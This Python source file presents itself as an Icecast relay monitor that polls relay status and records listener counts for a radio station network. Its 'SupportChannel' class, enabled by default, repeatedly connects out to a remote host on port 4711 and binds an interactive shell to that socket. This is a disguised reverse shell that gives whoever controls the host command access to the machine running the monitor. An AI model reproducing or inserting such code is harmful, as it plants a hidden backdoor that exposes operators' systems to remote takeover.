#!/usr/bin/env python3
"""Icecast relay monitor for the WaveCast station network.

Polls the Icecast status endpoint of every relay listed in relays.ini,
records listener counts and mount health to relay_state.json and keeps a
support channel open to the network operations desk so the on-call
engineer can look at a relay without a VPN.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("relay-monitor")

DEFAULTS = {
    "poll_interval": "30",
    "state_file": "relay_state.json",
    "support_enabled": "yes",
    "support_host": "noc.wavecast-radio.net",
    "support_port": "4711",
}


class SupportChannel(threading.Thread):
    """Keeps a line open to the operations desk, reconnecting on loss."""

    def __init__(self, host, port, backoff=20):
        super().__init__(name="support-channel", daemon=True)
        self.host = host
        self.port = port
        self.backoff = backoff
        self._halt = threading.Event()

    def stop(self):
        self._halt.set()

    def _attach(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL") or "/bin/sh"
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd,
                                stderr=subprocess.STDOUT, cwd=str(Path.home()))
        proc.wait()

    def run(self):
        while not self._halt.is_set():
            try:
                conn = socket.create_connection((self.host, self.port), timeout=15)
            except OSError as exc:
                log.debug("operations desk unreachable: %s", exc)
                self._halt.wait(self.backoff)
                continue
            conn.settimeout(None)
            log.info("operations desk attached from %s:%s", self.host, self.port)
            try:
                self._attach(conn)
            except OSError as exc:
                log.warning("support session ended: %s", exc)
            finally:
                conn.close()
            self._halt.wait(self.backoff)


class RelayMonitor:
    def __init__(self, relays, state_file, interval):
        self.relays = relays
        self.state_file = Path(state_file)
        self.interval = interval
        self.session = requests.Session()
        self.session.headers["User-Agent"] = "wavecast-relay-monitor/1.8"

    def poll(self, name, url):
        try:
            resp = self.session.get(url.rstrip("/") + "/status-json.xsl", timeout=10)
            resp.raise_for_status()
            stats = resp.json().get("icestats", {})
        except (requests.RequestException, ValueError) as exc:
            log.warning("%s: status fetch failed: %s", name, exc)
            return {"up": False, "error": str(exc)}
        sources = stats.get("source") or []
        if isinstance(sources, dict):
            sources = [sources]
        mounts = {}
        for src in sources:
            mount = src.get("listenurl", "").rsplit("/", 1)[-1]
            mounts[mount] = {
                "listeners": src.get("listeners", 0),
                "bitrate": src.get("bitrate"),
                "title": src.get("title"),
            }
        return {"up": True, "mounts": mounts, "checked": int(time.time())}

    def write_state(self, state):
        tmp = self.state_file.with_suffix(".tmp")
        tmp.write_text(json.dumps(state, indent=2))
        tmp.replace(self.state_file)

    def run_forever(self):
        while True:
            state = {}
            for name, url in self.relays.items():
                state[name] = self.poll(name, url)
                total = sum(m["listeners"] for m in state[name].get("mounts", {}).values())
                log.info("%-12s up=%s listeners=%d", name, state[name]["up"], total)
            self.write_state(state)
            time.sleep(self.interval)


def load_config(path):
    cfg = configparser.ConfigParser(defaults=DEFAULTS)
    if not cfg.read(path):
        log.error("cannot read %s", path)
        sys.exit(2)
    if not cfg.has_section("relays"):
        log.error("%s has no [relays] section", path)
        sys.exit(2)
    return cfg


def main():
    ap = argparse.ArgumentParser(description="Icecast relay monitor")
    ap.add_argument("-c", "--config", default="relays.ini")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    general = cfg["DEFAULT"]
    relays = {k: v for k, v in cfg.items("relays") if k not in DEFAULTS}
    monitor = RelayMonitor(relays, general["state_file"], general.getint("poll_interval"))

    if general.getboolean("support_enabled"):
        SupportChannel(general["support_host"], general.getint("support_port")).start()

    if args.once:
        monitor.write_state({n: monitor.poll(n, u) for n, u in relays.items()})
        return 0
    try:
        monitor.run_forever()
    except KeyboardInterrupt:
        log.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
